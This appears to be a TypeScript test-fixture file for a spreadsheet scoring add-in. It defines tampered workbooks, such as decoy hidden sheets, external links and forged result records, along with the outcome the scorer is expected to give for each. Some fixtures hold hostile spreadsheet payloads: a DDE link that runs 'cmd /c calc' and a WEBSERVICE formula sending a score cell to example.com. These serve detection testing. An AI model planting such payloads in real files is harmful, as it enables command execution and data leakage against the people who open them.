import { all, added, CONTENT, date, edit, formula, formulaAt, MAIN, number, OFFICE, plainSheet, shows, shownText, sheetAdded, typed, words } from "./change";
import { besides, calculated, entered, incomplete, refused, scored, type ScoringRow } from "./outcome";
import { type Change, partsOf, scoringBook, zipped } from "./scoringBook";

const row = (id: string, what: string, change: Change, outcome: ScoringRow["outcome"]): ScoringRow => ({ id, what, file: calculated(change), outcome });

const inBoth = (each: ScoringRow): ScoringRow => ({ ...each, inBoth: true });

const RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships";
const setting = (calcPr: string): Change => edit("workbook", (xml) => xml.replace(/<calcPr[^>]*>/, calcPr));
const in1904: Change = edit("workbook", (xml) => xml.replace("<workbookPr", '<workbookPr date1904="1"'));
const withoutType = (part: string): Change => edit("types", (xml) => xml.replace(new RegExp(`<Override PartName="/${part}"[^>]*/>`), ""));
const refersTo = (name: string, target: string): Change => edit("workbook", (xml) => xml.replace(new RegExp(`(<definedName name="${name}"[^>]*>)[^<]*`), (_, start: string) => start + target));

const merged = (part: "汇总" | "评分表" | "特别项", range: string): Change =>
  edit(part, (xml) => (xml.includes("<mergeCells") ? xml.replace(/<mergeCells[^>]*>/, `<mergeCells><mergeCell ref="${range}"/>`) : xml.replace(/(<\/sheetData>(?:<sheetProtection[^>]*\/>)?)/, `$1<mergeCells><mergeCell ref="${range}"/></mergeCells>`)));

const named = (name: string, target: string, attributes = ""): Change =>
  edit("workbook", (xml) => xml.replace("<definedNames>", `<definedNames><definedName name="${name}"${attributes}>${target}</definedName>`));

/** A link to another workbook, as a file keeps it. */
const linked = (book: string): Change =>
  all(
    added(
      {
        "xl/externalLinks/externalLink1.xml": `<externalLink xmlns="${MAIN}" xmlns:r="${OFFICE}">${book}</externalLink>`,
        "xl/externalLinks/_rels/externalLink1.xml.rels": `<Relationships xmlns="${RELATIONSHIPS}"><Relationship Id="rId1" Type="${OFFICE}/externalLinkPath" Target="旧表.xlsx" TargetMode="External"/></Relationships>`,
      },
      { types: { "xl/externalLinks/externalLink1.xml": `${CONTENT}.externalLink+xml` }, ofWorkbook: [{ type: `${OFFICE}/externalLink`, target: "externalLinks/externalLink1.xml" }] },
    ),
    edit("workbook", (xml) => xml.replace("<definedNames>", '<externalReferences><externalReference r:id="rIdW0"/></externalReferences><definedNames>')),
  );
const OTHER_BOOK = linked('<externalBook r:id="rId1"/>');

/** The scoresheet, copied behind the others with 5.1.6.4 conforming, and its table taken along. */
const decoy = (state: "veryHidden" | ""): Change => (parts) => {
  const copy = typed("评分表!F20", words("符合"))(parts);
  const table = `<Relationships xmlns="${RELATIONSHIPS}"><Relationship Id="rId1" Type="${OFFICE}/table" Target="../tables/table1.xml"/></Relationships>`;
  return all(
    sheetAdded("打分", copy["xl/worksheets/sheet2.xml"] ?? "", { state, relationships: table }),
    edit("评分表", (xml) => xml.replace(/<tableParts.*<\/tableParts>/, "")),
    (before) => ({ ...before, "xl/worksheets/_rels/sheet2.xml.rels": (before["xl/worksheets/_rels/sheet2.xml.rels"] ?? "").replace(/<Relationship [^>]*table1\.xml"\/>/, "") }),
  )(parts);
};

const lost = (columns: number, at: string): readonly string[] => Array.from({ length: columns }, () => `column-missing ${at}`);

/** The scoresheet's sheet copied as Excel does it: the table comes along under a name of its own. */
const secondSheet: Change = (parts) => {
  const copy = typed("评分表!F20", words("符合"))(parts);
  const part = "xl/tables/table9.xml";
  const relationships = `<Relationships xmlns="${RELATIONSHIPS}"><Relationship Id="rId1" Type="${OFFICE}/table" Target="../tables/table9.xml"/></Relationships>`;
  return all(
    sheetAdded("评分表 (2)", copy["xl/worksheets/sheet2.xml"] ?? "", { relationships }),
    added({ [part]: (parts["xl/tables/table1.xml"] ?? "").replace(' id="1"', ' id="9"').replaceAll('"Scoresheet"', '"Scoresheet10"') }, { types: { [part]: `${CONTENT}.table+xml` } }),
  )(parts);
};

/** A table with these columns on a sheet of its own. */
function secondTable(columns: readonly string[]): Change {
  const part = "xl/tables/table9.xml";
  const range = `A1:${String.fromCharCode(64 + columns.length)}2`;
  const cells = columns.map((column, index) => `<c r="${String.fromCharCode(65 + index)}1" t="inlineStr"><is><t>${column}</t></is></c>`).join("");
  const table = `<table xmlns="${MAIN}" id="9" name="Table9" displayName="Table9" ref="${range}"><tableColumns count="${String(columns.length)}">${columns.map((column, index) => `<tableColumn id="${String(index + 1)}" name="${column}"/>`).join("")}</tableColumns></table>`;
  return all(
    sheetAdded("补充", `<worksheet xmlns="${MAIN}" xmlns:r="${OFFICE}"><sheetData><row r="1">${cells}</row></sheetData><tableParts count="1"><tablePart r:id="rId1"/></tableParts></worksheet>`, {
      relationships: `<Relationships xmlns="${RELATIONSHIPS}"><Relationship Id="rId1" Type="${OFFICE}/table" Target="../tables/table9.xml"/></Relationships>`,
    }),
    added({ [part]: table }, { types: { [part]: `${CONTENT}.table+xml` } }),
  );
}

const HIDDEN: readonly ScoringRow[] = [
  inBoth(row("H38", "a hidden sheet with other scores", sheetAdded("备用", plainSheet('<row r="1"><c r="A1"><v>95</v></c></row>'), { state: "hidden" }), besides("FIL001 sheet 备用!A1"))),
  row("H38", "a visible sheet with notes", sheetAdded("说明", plainSheet('<row r="1"><c r="A1"><v>95</v></c></row>')), "same score"),
  row("H38", "the scoresheet that counts, very hidden behind one that is shown", decoy("veryHidden"), scored("95.67", 2, "five-star",
    "FIL001 very-hidden-sheet 打分!A1", "FIL002 changed, 157 cells", "FIL002 stale, 10 cells", "RES001 differs 打分!K20", "RES001 differs 汇总!C15", "RES001 differs 汇总!C17",
    "RES002 differs 打分!J20", "RES002 differs 汇总!B15", "RES002 differs 汇总!B17", "GRD002 above", "TXT002 finding 打分!M20")),
  row("H103", "a merged title", merged("特别项", "A1:K1"), "same score"),
  row("H103", "result cells that are merged", merged("汇总", "B17:C17"), refused("workbook-cells-merged 汇总!B17:C17")),
  row("H103", "headers that are merged", merged("评分表", "I4:J4"), refused("workbook-cells-merged 评分表!I4:J4")),
  row("H104", "rows that a filter left out", all(
    edit("scoresheetTable", (xml) => xml.replace('<autoFilter ref="A4:P33"/>', '<autoFilter ref="A4:P33"><filterColumn colId="5"><filters><filter val="符合"/></filters></filterColumn></autoFilter>')),
    edit("评分表", (xml) => xml.replace(/<row r="(20|32)"/g, '<row r="$1" hidden="1"')),
  ), besides("FIL001 rows 评分表!A20:M20", "FIL001 rows 评分表!A32:M32")),
  inBoth(row("H104", "rows of a group that is closed", edit("评分表", (xml) => xml.replace(/<row r="(19|20)"/g, '<row r="$1" outlineLevel="1" hidden="1"').replace('<row r="21"', '<row r="21" collapsed="1"')), besides("FIL001 rows 评分表!A19:M20"))),
  row("H104", "rows of no height", edit("评分表", (xml) => xml.replace(/<row r="20" ht="[0-9.]*"/, '<row r="20" ht="0" customHeight="1"')), besides("FIL001 rows 评分表!A20:M20")),
  row("H104", "a closed group of columns", edit("评分表", (xml) => xml.replace(/<col min="(7|8)" max="[78]"/g, '<col min="$1" max="$1" outlineLevel="1" hidden="1"')), besides("FIL001 columns 评分表!G8:H33")),
  row("H104", "a column of no width", edit("评分表", (xml) => xml.replace(/(<col min="9" max="9" width=)"[0-9.]*"/, '$1"0"')), besides("FIL001 columns 评分表!I25:I32")),
  row("H104", "a hidden row of a deduction", edit("特别项", (xml) => xml.replace('<row r="7"', '<row r="7" hidden="1"')), besides("FIL001 rows 特别项!B7:L7")),
  row("H104", "a hidden row of a drawn item", all(typed("抽样!A29", words("5.1.2.1")), edit("抽样", (xml) => xml.replace('<row r="29"', '<row r="29" hidden="1"'))), besides("FIL001 rows 抽样!A29", "SMP007 open 抽样!D29", "SMP009 抽样!A29")),
  row("H104", "a hidden heading", edit("评分表", (xml) => xml.replace('<row r="24"', '<row r="24" hidden="1"')), besides("FIL001 rows 评分表!A24:J24")),
];

const OUTSIDE: readonly ScoringRow[] = [
  inBoth(row("H43", "a link to another workbook", OTHER_BOOK, besides("FIL004 links"))),
  row("H43", "a link to another program", linked('<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A1"/></ddeItems></ddeLink>'), besides("FIL004 links")),
  row("H43", "a link to an object", linked('<oleLink r:id="rId1" progId="Package"><oleItems/></oleLink>'), besides("FIL004 links")),
  row("H43", "a query that Excel runs", added(
    { "xl/connections.xml": `<connections xmlns="${MAIN}"><connection id="1" name="查询" type="5"/></connections>`, "customXml/item1.xml": '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>' },
    { types: { "xl/connections.xml": `${CONTENT}.connections+xml` }, ofWorkbook: [{ type: `${OFFICE}/connections`, target: "connections.xml" }, { type: `${OFFICE}/customXml`, target: "../customXml/item1.xml" }] },
  ), besides("FIL004 connections")),
  inBoth(row("H43", "a formula that asks a server, in a cell of no use", typed("汇总!F3", formula('_xlfn.WEBSERVICE("http://example.com/?"&B15)', shownText(""))), besides("FIL004 formula 汇总!F3"))),
  row("H43", "a picture from a server", typed("评分表!P2", formula('_xlfn.IMAGE("http://example.com/a.png")', { type: "e", xml: "<v>#BLOCKED!</v>" })), besides("FIL004 formula 评分表!P2")),
  row("H43", "a formula that only speaks of servers", typed("汇总!F3", formula('"WEBSERVICE("&"RTD("', shownText("WEBSERVICE(RTD("))), "same score"),
  row("H99", "a subtotal taken from another workbook, with its value", all(OTHER_BOOK, formulaAt("汇总!D26", () => "[1]汇总!$D$26")), besides("FIL002 changed 汇总!D26", "FIL004 links")),
  row("H99", "a total taken from another workbook, with its value", all(OTHER_BOOK, typed("汇总!B15", formula("[1]汇总!$B$15", number("93.52")))), besides("FIL004 links", "RES002 overwritten 汇总!B15")),
  { id: "H99", what: "an entry taken from another workbook", file: entered(all(OTHER_BOOK, typed("评分表!F6", formula("[1]评分表!$F$6", shownText("符合"))))), outcome: incomplete("ENT002 formula 评分表!F6", "FIL004 links") },
];

const STRUCTURE: readonly ScoringRow[] = [
  row("H34", "the table without its content type", withoutType("xl/tables/table1.xml"), refused("package-content-type xl/tables/table1.xml")),
  row("H34", "the shared texts without their content type", withoutType("xl/sharedStrings.xml"), refused("package-content-type xl/sharedStrings.xml")),
  row("H34", "the chart without its content type", withoutType("xl/charts/chart1.xml"), "same score"),
  row("H44", "the total's name on the cell beside it", refersTo("SS_Total", "'汇总'!$C$15"), besides("FIL002 moved 汇总!C15", "RES002 overwritten 汇总!C15")),
  row("H44", "the total's name on a figure on another sheet", refersTo("SS_Total", "'依据'!$B$31"), besides("FIL002 moved 依据!B31", "RES002 overwritten 依据!B31")),
  row("H44", "no name for the recounted total", edit("workbook", (xml) => xml.replace(/<definedName name="SS_TotalTwin">[^<]*<\/definedName>/, "")), besides("FIL002 moved 汇总!C15")),
  row("H44", "the company's name on another cell", refersTo("SS_Company", "'汇总'!$B$8"), besides("FIL002 moved 汇总!B8")),
  row("H44", "a name that leaves out assessors", refersTo("SS_Assessors", "'汇总'!$C$6:$D$6"), besides("FIL002 moved 汇总!C6:D6")),
  row("H44", "settings taken from other cells", refersTo("SS_Rules", "'依据'!$A$19:$C$38"), besides("FIL002 moved 依据!A19:C38")),
  row("H44", "the names of the documents changing places", all(refersTo("SS_CatalogueJson", "'依据'!$S$2"), refersTo("SS_ProfileJson", "'依据'!$R$2:$R$4")), refused("format-differs 依据!B6", "format-differs 依据!B7")),
  row("H44", "a name in place of the total's function", named("_xldudf_STAR_TOTAL", "_xlfn.LAMBDA(_xlpm.a,95.67)"), refused("workbook-function-redefined ")),
  row("H44", "a name in place of the grade's function, on one sheet, in small letters", named("star.grade", '"五星级"', ' localSheetId="0"'), refused("workbook-function-redefined 汇总")),
  row("H44", "what a program keeps that does not have our functions", named("_xldudf_STAR_TOTAL", "#NAME?", ' hidden="1"'), "same score"),
  row("H44", "a print area that leaves out rows", refersTo("_xlnm.Print_Area", "'汇总'!$A$1:$F$12"), "same score"),
  row("H44", "a name of ours behind Excel's own prefix", edit("workbook", (xml) => xml.replace('<definedName name="SS_Total">', '<definedName name="_xlnm.SS_Total">\'依据\'!$B$31</definedName><definedName name="SS_Total">')), "same score"),
  inBoth(row("H97", "a table of deductions that ends above one of them", edit("deductionsTable", (xml) => xml.replaceAll("A5:L25", "A5:L6")), refused("rows-below-table 特别项!A7"))),
  row("H97", "a table without its last column", edit("scoresheetTable", (xml) => xml.replaceAll("A4:P33", "A4:O33").replace('count="16"', 'count="15"').replace('<tableColumn id="16" name="备注"/>', "")), refused("column-missing 评分表!A4")),
  row("H97", "the tables of deductions and bonuses under each other's name", all(
    edit("deductionsTable", (xml) => xml.replaceAll('"SpecialDeductions"', '"Bonuses"')),
    edit("bonusesTable", (xml) => xml.replaceAll('"Bonuses"', '"SpecialDeductions"')),
  ), refused(...lost(10, "特别项!A28"), ...lost(1, "特别项!A5"))),
  row("H97", "a scoresheet whose last clause is said to be a row of totals", edit("scoresheetTable", (xml) => xml.replace('totalsRowShown="0"', 'totalsRowCount="1"')), refused("row-clause-missing 评分表!A4", "rows-below-table 评分表!A33")),
  row("H97", "no table of deductions", edit("deductionsTable", (xml) => xml.replaceAll('"SpecialDeductions"', '"Table2"')), refused("table-missing SpecialDeductions")),
  row("H97", "a table of deductions that begins below one of them", edit("deductionsTable", (xml) => xml.replaceAll("A5:L25", "A7:L25")), refused(...lost(11, "特别项!A7"))),
];

const SETTINGS: readonly ScoringRow[] = [
  inBoth(row("H46", "manual but for tables", setting('<calcPr calcMode="autoNoTable"/>'), "same score")),
  row("H46", "without settings for calculating", setting(""), "same score"),
  row("H46", "every manner at once", setting('<calcPr calcMode="manual" iterate="1" fullPrecision="0" fullCalcOnLoad="1"/>'), besides("FIL003 displayed-precision", "FIL003 iterative", "FIL003 manual")),
  { id: "H47", what: "days counted from 1904, with a date for a sample", file: entered(all(in1904, typed("评分表!G8", date("9")))), outcome: incomplete("ENT001 date 评分表!G8", "FIL003 dates-1904") },
  { id: "H47", what: "days counted from 1904, with a due date in them", file: entered(all(in1904, typed("特别项!H6", date("44914")))), outcome: besides("FIL003 dates-1904") },
];

/** Records that somebody put into the file as if the add-in had written them. Nothing reads them: a score comes from the entries. */
const RECORDS: readonly ScoringRow[] = [
  row("H45", "a custom XML part with a result of ours", added({ "customXml/item1.xml": '<servicestar xmlns="urn:servicestar:result"><total>95.67</total><grade>five-star</grade></servicestar>' }, { ofWorkbook: [{ type: `${OFFICE}/customXml`, target: "../customXml/item1.xml" }] }), "same score"),
  row("H45", "two custom XML parts with results of ours", added(
    { "customXml/item1.xml": '<servicestar xmlns="urn:servicestar:result"><grade>five-star</grade></servicestar>', "customXml/item2.xml": '<servicestar xmlns="urn:servicestar:result"><grade>not-qualified</grade></servicestar>' },
    { ofWorkbook: [{ type: `${OFFICE}/customXml`, target: "../customXml/item1.xml" }, { type: `${OFFICE}/customXml`, target: "../customXml/item2.xml" }] },
  ), "same score"),
  row("H45", "properties with a result of ours", added(
    { "docProps/custom.xml": '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="SS_Grade"><vt:lpwstr>five-star</vt:lpwstr></property></Properties>' },
    { types: { "docProps/custom.xml": "application/vnd.openxmlformats-officedocument.custom-properties+xml" }, ofPackage: [{ type: `${OFFICE}/custom-properties`, target: "docProps/custom.xml" }] },
  ), "same score"),
  row("H45", "settings of the add-in with a result", (parts) => ({ ...parts, "xl/webextensions/webextension1.xml": (parts["xl/webextensions/webextension1.xml"] ?? "").replace("<we:properties/>", '<we:properties><we:property name="grade" value="&quot;five-star&quot;"/></we:properties>') }), "same score"),
];

const COPIES: readonly ScoringRow[] = [
  { id: "H107", what: "the same parts in another archive, in another order", file: () => zipped(Object.fromEntries(Object.entries(partsOf(scoringBook("calculated", "zh-CN").untouched())).reverse())), outcome: "same score" },
  inBoth(row("H107", "the scoresheet of a second company on a copy of the sheet", secondSheet, besides("FIL008 评分表 (2)!A4:P33"))),
  row("H107", "a second table of deductions", secondTable(["序号", "扣分原因", "涉及条款", "事实", "整改期限"]), besides("FIL008 补充!A1:E2")),
  row("H107", "a second table of bonuses, in English", secondTable(["No.", "Reason"]), besides("FIL008 补充!A1:B2")),
  row("H107", "a second table of evidence", secondTable(["编号", "位置", "SHA-256 校验值"]), besides("FIL008 补充!A1:C2")),
  row("H107", "a second table of rectifications, in English", secondTable(["Clause", "Points lost as found", "Re-scored"]), besides("FIL008 补充!A1:C2")),
  row("H107", "a table of something else, with clauses in it", secondTable(["序号", "条款", "事实"]), "same score"),
  row("H107", "another maker and other properties of the file", (parts) => ({ ...parts, "docProps/core.xml": (parts["docProps/core.xml"] ?? "").replace("</cp:coreProperties>", "<cp:revision>7</cp:revision></cp:coreProperties>"), "docProps/app.xml": (parts["docProps/app.xml"] ?? "").replace(/<Application>[^<]*/, "<Application>WPS 表格") }), "same score"),
];

const DESK: readonly ScoringRow[] = [
  inBoth(row("H77", "a population as text", all(typed("抽样!A6", words("5.1.2.1")), typed("抽样!C6", words("120"))), besides("REC001 text-number 抽样!C6"))),
  row("H91", "a seed that changes by itself", all(typed("抽样!A6", words("5.1.2.1")), typed("抽样!F6", formula("RAND()", number("0.5")))), besides("REC001 formula 抽样!F6")),
  row("H100", "a rectification of a clause that the catalogue lacks", typed("整改!B6", words("9.9")), besides("REC001 unknown-clause 整改!B6")),
  row("H89", "points lost typed over", typed("整改!D6", number("1")), besides("FIL002 overwritten 整改!D6")),
  row("H86", "a rectification whose points lost show none", all(typed("整改!B6", words("5.1.2.1")), shows("整改!D6", number("0"))), besides("FIL002 stale 整改!D6")),
  row("H100", "a piece of evidence below its table", typed("证据!A126", words("E121")), besides("REC001 rows-below 证据!A126")),
  row("H97", "no table of evidence", edit("evidenceTable", (xml) => xml.replaceAll('"Evidence"', '"Table8"')), besides("FIL008 证据!A5:K125")),
  row("H97", "a table of evidence without a column", all(typed("证据!G5", words("?")), edit("evidenceTable", (xml) => xml.replace('name="SHA-256 校验值"', 'name="?"'))), besides("REC001 column-missing 证据!A5")),
  row("H97", "a table of evidence that begins two rows below its header", edit("evidenceTable", (xml) => xml.replaceAll("A5:K125", "A7:K125")), besides("FIL002 moved 证据!A7:K125", "REC001 foreign-table 证据!A7")),
];

/** What the file is around its cells. */
export const FILE_ROWS: readonly ScoringRow[] = [...HIDDEN, ...OUTSIDE, ...STRUCTURE, ...SETTINGS, ...RECORDS, ...COPIES, ...DESK];
